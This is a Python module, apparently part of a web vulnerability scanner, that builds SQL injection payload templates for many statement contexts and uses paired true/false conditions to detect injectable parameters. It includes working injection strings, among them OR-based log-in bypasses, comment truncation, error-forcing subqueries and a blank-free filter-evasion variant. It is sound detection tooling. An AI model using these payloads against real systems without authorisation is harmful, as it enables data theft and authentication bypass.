"""Where in an SQL statement a value may stand, and how a condition is put there.

Each context closes what the statement has open, adds a condition, and opens it again, so that the rest of the
statement stays as it was written (no comment, which would cut off more than we know). `{v}` is the original
value, `{n}` a fresh number that stands for a value nobody has, `{c}` the condition, `{f}` a number that is NULL when the
condition fails, `{s}` the empty text or NULL likewise, `{e}` a number whose reckoning fails in every system that knows
SELECT without FROM, and `{g}` the condition as reckoning that fails with it, for those that do not. The forms follow the SQL grammar (ISO/IEC 9075-2: search condition, character string literal, sort specification, NULLIF).

`{f}` and `{s}` need neither blanks nor words that filters look for; `{e}` tells where a statement shows no row: an
INSERT, an UPDATE, a sort direction. Its condition decides whether the statement fails, and nothing else changes.
"""

from collections.abc import Callable, Iterator

from msgspec import Struct
from msgspec.structs import replace

from cyberai.checkkit.differential import Hypothesis
from cyberai.checkkit.payloads import broken_condition, condition, null_number, null_text
from cyberai.checkkit.probe import Probe


class SqlContext(Struct, frozen=True):
    """One place in a statement. `needs` tells for which original values it makes sense; `keeps` whether a
    condition that holds leaves the page as it was (`AND`) or one that fails does (`OR`)."""

    name: str
    template: str
    needs: Callable[[str], bool]
    keeps: bool = True
    blank: str = " "


def _any(_: str) -> bool:
    return True


def is_number(value: str) -> bool:
    """True for digits, with a sign or a fraction or without."""
    return value.strip().lstrip("-").replace(".", "", 1).isdecimal()


def _numbers(value: str) -> bool:
    return "," in value and all(is_number(part) for part in value.split(","))


def _text(value: str) -> bool:
    return bool(value) and not is_number(value)


def _identifier(value: str) -> bool:
    return (
        bool(value)
        and value.isascii()
        and value.replace("_", "a").replace(".", "a").isalnum()
        and not is_number(value)
    )


def _sorting(value: str) -> bool:
    column, _, direction = value.partition(" ")
    return _identifier(column) and direction.lower() in ("", "asc", "desc")


# Two rows where one value must stand fail in most systems, the absolute value of the least integer in SQLite.
_FAILURE = "(SELECT abs(-9223372036854775807-1) UNION SELECT 2)"

# No absolute value of the least integer, or no division by zero, in each system; one that folds constants beforehand
# folds the condition as well, and so do those that read no further than the first failure.
_RECKONED = (
    "abs(-9223372036854775807-(CASE WHEN {c} THEN 0 ELSE 1 END))>0 AND 1/(CASE WHEN {c} THEN 1 ELSE 0 END)=1"
)

# A final `LIKE` meets both a bare closing quote and a trailing wildcard: 'x' LIKE 'x' and 'x' LIKE 'x%'.
AND_CONTEXTS = (
    SqlContext("numeric", "{v} AND {c}", is_number),
    SqlContext("single-quoted string", "{v}' AND {c} AND 'x' LIKE 'x", _any),
    SqlContext("LIKE pattern", "{v}%' AND {c} AND 'x' LIKE 'x", _any),
    SqlContext("string in parentheses", "{v}') AND {c} AND ('x' LIKE 'x", _any),
    SqlContext("double-quoted string", '{v}" AND {c} AND "x" LIKE "x', _any),
    SqlContext("numeric expression", "({v}+0*{f})", is_number),
    SqlContext("list of numbers", "{v}) AND {c} AND (1) IN (1", _numbers),
    SqlContext("number of a statement that shows no row", "(CASE WHEN {c} THEN {v} ELSE {e} END)", is_number),
    SqlContext(
        "number of a statement that shows no row, by reckoning",
        "(CASE WHEN {g} THEN {v} ELSE {v} END)",
        is_number,
    ),
    SqlContext("ORDER BY column", "(CASE WHEN {c} THEN {v} ELSE NULL END)", _identifier),
    SqlContext("ORDER BY list or direction", "{v},(SELECT CASE WHEN {c} THEN 1 ELSE {e} END)", _sorting),
    SqlContext("name in back-quotes", "{v}`,(SELECT CASE WHEN {c} THEN 1 ELSE {e} END),`{v}", _identifier),
    SqlContext("name in double quotes", '{v}",(SELECT CASE WHEN {c} THEN 1 ELSE {e} END),"{v}', _identifier),
    SqlContext("joined string", "{v}'||{s}||'", _any),
    SqlContext("single-quoted string without words", "{v}'&&{f}&&'x'LIKE'x", _text),
    SqlContext(
        "string of a statement that shows no row",
        "{v}'||(SELECT CASE WHEN {c} THEN '' ELSE CAST({e} AS CHAR) END)||'",
        _any,
    ),
    SqlContext(
        "string of a statement that shows no row, by reckoning",
        "{v}'||CASE WHEN {g} THEN '' ELSE '' END||'",
        _any,
    ),
    SqlContext(
        "compared string of a statement that shows no row",
        "{v}'LIKE(SELECT CASE WHEN {c} THEN '' ELSE {e} END)LIKE'",
        _any,
    ),
)


def without_blanks(contexts: tuple[SqlContext, ...]) -> tuple[SqlContext, ...]:
    """The same for a place that takes no blanks and no double quotes, such as a cookie: comments stand for blanks."""
    return tuple(replace(context, blank="/**/") for context in contexts if '"' not in context.template)


# OR reaches every row, and a comment cuts off conditions (of an UPDATE: all of them). Only where the statement
# can be trusted to read: a safe method, or a log-in form.
READING_CONTEXTS = (
    SqlContext("ORDER BY tail", "{v} LIMIT (CASE WHEN {c} THEN 99999 ELSE 0 END)-- -", _identifier),
    SqlContext("LIMIT or ORDER BY number", "{v} LIMIT (CASE WHEN {c} THEN 99999 ELSE 0 END)-- -", is_number),
    SqlContext("single-quoted string before a comment", "{v}' AND {c}-- -", _text),
    SqlContext("string after an escaped quote", "{v}\\' AND {c}-- -", _text),
    SqlContext("single-quoted string", "{n}' OR {c}-- -", _any, keeps=False),
    SqlContext("numeric", "-{n} OR {c}", is_number, keeps=False),
    SqlContext("string in parentheses", "{n}') OR {c}-- -", _any, keeps=False),
    SqlContext("double-quoted string", '{n}" OR {c}-- -', _any, keeps=False),
)

# Where neither the value nor a broken statement shows a row: what reaches every row, in what a search is made of.
SEARCH_CONTEXTS = tuple(context for context in READING_CONTEXTS if not context.keeps)

# A refused log-in looks the same whatever was wrong with it; what opens it is a condition that holds.
LOGIN_CONTEXTS = (
    SqlContext("single-quoted string, rest cut off", "{v}' AND {c}-- -", _text, keeps=False),
    *SEARCH_CONTEXTS,
)

SYNTAX = (
    "AND OR LIKE x 1 2 CASE WHEN THEN ELSE NULL END LIMIT SELECT UNION BETWEEN BETVEEM 99999 0 - -- and or like "
    "case when then else null end limit select union between betveem NULLIF NULLIP nullif nullip abs CAST AS CHAR "
    "9223372036854775807 ORDER BY ALL FROM DUAL UNIQN"
)
"""Words of the payloads, which are no features of a page."""


class Repair(Struct, frozen=True):
    """One kind of place: a value that is sound there, and its counterpart that is broken there and differs
    from it by as little as can be."""

    context: str
    sound: str
    broken: str


class Break(Struct, frozen=True):
    """A value that ends every kind of literal at once, and a repair for each kind it may have broken."""

    value: str
    repairs: tuple[Repair, ...]


def syntax_break(value: str, fresh: str, number: int, *, bare: bool = False) -> Break:
    """Break every literal: quotes of both kinds, a backslash before the closing quote, a stray parenthesis; `bare`
    where only a single quote can be sent.

    Each repair differs from its counterpart by doubled characters, or by an operand or a parenthesis that is
    missing, so a filter, a failed cast or a page that dislikes quotes answers both alike.
    """
    broken = f"{value}{fresh}'" if bare else f"{value}{fresh})'\"\\"
    if bare:
        repairs = [Repair("single-quoted string", f"{value}{fresh}''", broken)]
    else:
        repairs = [
            Repair("single-quoted string", f"{value}{fresh})''\"\\\\", broken),
            Repair("double-quoted string", f'{value}{fresh})\'""\\\\', broken),
        ]
    if is_number(value):
        repairs.insert(0, Repair("numeric", f"{value}-{number}+{number}", f"{value}-{number}+"))
        # LIMIT takes a number and nothing to reckon; a comment is no part of a statement anywhere.
        repairs.append(Repair("numeric, behind it a comment", f"{value}/*{number}*/", f"{value}*{number}*/"))
    if _identifier(value) and not bare:
        repairs.append(Repair("identifier", f"{value},(SELECT {number})", f"{value},(SELECT {number}"))
    return Break(broken, tuple(repairs))


def hypotheses(probe: Probe, value: str, contexts: tuple[SqlContext, ...]) -> Iterator[Hypothesis]:
    """The hypotheses that make sense for this original value."""
    for context in contexts:
        if context.needs(value):
            yield Hypothesis(
                context.name,
                _values(probe, context, value, sound=True),
                _values(probe, context, value, sound=False),
                context.keeps,
            )


def _values(probe: Probe, context: SqlContext, value: str, *, sound: bool) -> Callable[[bool, int], str]:
    make = condition if sound else broken_condition

    def build(holds: bool, round_: int) -> str:
        text = (
            context.template.replace("{g}", _RECKONED)
            .replace("{c}", make(probe, holds, round_))
            .replace("{f}", null_number(probe, holds, sound=sound))
            .replace("{s}", null_text(probe, holds, sound=sound))
            .replace("{e}", _FAILURE)
            .replace("{n}", str(probe.number(10_000_000, 99_999_999)))
        )
        return text.replace(" ", context.blank).replace("{v}", value)

    return build
